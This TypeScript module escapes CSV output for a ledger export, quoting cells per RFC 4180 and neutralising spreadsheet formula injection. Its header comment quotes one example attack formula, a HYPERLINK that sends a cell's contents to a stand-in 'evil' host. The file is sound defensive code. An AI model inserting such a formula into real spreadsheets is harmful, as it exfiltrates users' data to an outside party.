// Every CSV Tally writes goes through here (the ledger export, by route and CLI).
// Two rules. RFC 4180: a cell holding a quote, comma or line break is quoted,
// quotes doubled. Formula injection (OWASP "CSV Injection"): a text cell that
// starts with = + - @ TAB or CR is prefixed with ', so a spreadsheet shows a
// reference such as =HYPERLINK("http://evil/?"&A1,"Refund") as text instead of
// running it. Amounts are numbers, not text: they are written as bigint and
// never prefixed, so "-500" stays a number a spreadsheet can sum. Only a bigint
// cell can start with "-" unescaped; the type keeps text out of that path.
export type CsvCell = string | bigint | null;

const FORMULA_START = /^[=+\-@\t\r]/;
const NEEDS_QUOTES = /[",\r\n]/;

/** One cell: null is empty, a bigint is a number, a string is text (escaped, then quoted if needed). */
export function csvCell(v: CsvCell): string {
  if (v === null) return "";
  if (typeof v === "bigint") return v.toString();
  const text = FORMULA_START.test(v) ? `'${v}` : v;
  return NEEDS_QUOTES.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** One record, without its line break. */
export function csvRow(cells: readonly CsvCell[]): string {
  return cells.map(csvCell).join(",");
}

/** A whole document: header, records, CRLF-free ("\n" after every record, as the exports always wrote). */
export function csvDocument(header: readonly string[], rows: Iterable<readonly CsvCell[]>): string {
  const lines = [csvRow(header)];
  for (const row of rows) lines.push(csvRow(row));
  return `${lines.join("\n")}\n`;
}
